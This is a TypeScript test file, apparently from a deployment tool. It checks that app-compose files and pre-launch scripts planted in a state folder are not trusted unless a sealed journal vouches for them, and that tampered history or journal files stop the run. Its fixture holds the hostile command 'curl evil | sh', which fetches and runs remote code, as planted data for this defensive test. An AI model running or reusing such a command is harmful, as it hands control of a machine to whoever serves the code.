/** What of a state folder is believed: what a chain vouches for, and nothing that somebody put there. */
import { appendFile, mkdir, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { canonicalJson, composeHashOf, sha256Hex } from "../../../src/core/compose-hash.ts";
import { appComposeStore, registryComposeStore } from "../../../src/state/app-compose-store.ts";
import { openJournal, type JournalEntry } from "../../../src/state/journal.ts";
import { stateDirectoryOf, type StateDirectory } from "../../../src/state/state-directory.ts";
import { readVerifiedState } from "../../../src/state/verified-state.ts";
import { approvalOf, approve, hashOf } from "../../helpers/history.ts";
import { temporaryFolder } from "../../helpers/temporary.ts";

const evil = { docker_compose_file: "services: {}", pre_launch_script: "curl evil | sh" };
const hash = composeHashOf(evil);

async function planted(): Promise<StateDirectory> {
  const at = stateDirectoryOf(await temporaryFolder(), "host", "bird");
  for (const folder of [at.appComposes, at.registryComposes]) {
    await mkdir(folder, { recursive: true });
    await writeFile(path.join(folder, `${hash}.json`), canonicalJson(evil));
  }
  return at;
}

test("an app-compose that somebody put there is not believed, nor is its script", async () => {
  const at = await planted();
  const state = await readVerifiedState(at, "bird");
  const store = appComposeStore(at, state);
  expect([await store.load(hash), (await store.knownScripts()).size]).toEqual([undefined, 0]);
  expect((await registryComposeStore(at, state).knownScripts()).size).toBe(0);
});

test("neither is one that an unsealed journal names; a sealed record vouches for it", async () => {
  const at = await planted();
  const record: JournalEntry = {
    type: "compose-hash",
    hash,
    compose_digest: hashOf("d"),
    allowed_envs: [],
  };
  await writeFile(at.journal, `${JSON.stringify({ v: 1, at: "", run: "r", ...record })}\n`);
  const unsealed = await readVerifiedState(at, "bird");
  expect([await appComposeStore(at, unsealed).load(hash), unsealed.record.unverified]).toEqual([
    undefined,
    1,
  ]);
  await openJournal(at, () => 0).append(record);
  const store = appComposeStore(at, await readVerifiedState(at, "bird"));
  expect(await store.load(hash)).toEqual(evil);
  expect([...(await store.knownScripts())]).toEqual([sha256Hex(evil.pre_launch_script)]);
});

test("a history that was changed, or has other hashes than the journal, ends the run", async () => {
  const at = stateDirectoryOf(await temporaryFolder(), "host", "bird");
  await approve(at, [approvalOf("a")]);
  const { record, vouched } = await readVerifiedState(at, "bird");
  expect([record.approvals[0]?.vouched, vouched.runners.has(hashOf("a"))]).toEqual([true, true]);
  const text = await readFile(at.history, "utf8");
  await writeFile(at.history, text.replace("rotate-hash", "rotate-hasH"));
  await expect(readVerifiedState(at, "bird")).rejects.toMatchObject({ code: "state-damaged" });
});

async function twoLines(): Promise<{
  readonly at: StateDirectory;
  readonly head: string | null;
}> {
  const at = stateDirectoryOf(await temporaryFolder(), "host", "bird");
  const heads = await approve(at, [approvalOf("a"), approvalOf("b")], { journaled: false });
  return { at, head: heads[1] ?? null };
}

describe("a journal's approval and the line of the history that it names", () => {
  type Approved = Extract<JournalEntry, { type: "approved" }>;
  const entryOf = (head: string | null, change: Partial<Approved> = {}): JournalEntry => {
    const { registry_app_id: app_id, hashes } = approvalOf("b");
    const record = {
      type: "approved",
      via: "restart",
      correlation_id: null,
      settings: {},
    } as const;
    return { ...record, app_id, hashes: [...hashes], history_head: head, ...change };
  };

  test.each<[string, Partial<Approved>]>([
    ["another list", { hashes: [hashOf("a"), hashOf("b")] }],
    ["another registry", { app_id: "f".repeat(40) }],
  ])("%s ends the run, with the line", async (_, change) => {
    const { at, head } = await twoLines();
    await openJournal(at, () => 0).append(entryOf(head, change));
    await expect(readVerifiedState(at, "bird")).rejects.toMatchObject({
      code: "state-damaged",
      message: `line 2 of ${at.history} has other hashes than the journal's approval of it`,
    });
  });

  test("the same, none, and an end that a crash tore are fine", async () => {
    const { at, head } = await twoLines();
    const journal = openJournal(at, () => 0);
    await journal.append(entryOf(head));
    await journal.append(entryOf(null, { hashes: ["x"] }));
    await appendFile(at.history, '{"v":1,"at":');
    const { record } = await readVerifiedState(at, "bird");
    expect(record.approvals.map(({ hashes }) => hashes)).toEqual([[hashOf("b")], ["x"]]);
  });

  test("one that is gone, or was edited, ends the run with the file", async () => {
    const { at, head } = await twoLines();
    await openJournal(at, () => 0).append(entryOf(head));
    const text = await readFile(at.history, "utf8");
    await writeFile(at.history, `${text.split("\n")[0]}\n`);
    await expect(readVerifiedState(at, "bird")).rejects.toMatchObject({
      message: expect.stringContaining(`${at.history}: the journal has an approval whose line`),
    });
    await writeFile(at.history, text.replace("rotate-hash", "rotate-hasH"));
    await expect(readVerifiedState(at, "bird")).rejects.toMatchObject({
      message: `${at.history}: line 1 was edited: it is not what was written there`,
    });
  });
});

test("what has not changed is read once; what was appended, put in its place, or asked for afresh is read", async () => {
  const at = await planted();
  const journal = openJournal(at, () => 0);
  await journal.append({ type: "settings", app_id: "one", values: {} });
  await writeFile(at.history, "");
  const first = await readVerifiedState(at, "bird");
  expect(await readVerifiedState(at, "bird")).toBe(first);
  const fresh = await readVerifiedState(at, "bird", { fresh: true });
  expect(fresh).not.toBe(first);
  expect(fresh).toEqual(first);
  await journal.append({ type: "settings", app_id: "two", values: {} });
  expect((await readVerifiedState(at, "bird")).record.settings?.appId).toBe("two");
  // Of the same length, by another hand: its seal no longer holds.
  const text = await readFile(at.journal, "utf8");
  await writeFile(at.journal, text.replace('"two"', '"ten"'));
  await expect(readVerifiedState(at, "bird")).rejects.toMatchObject({ code: "state-damaged" });
});
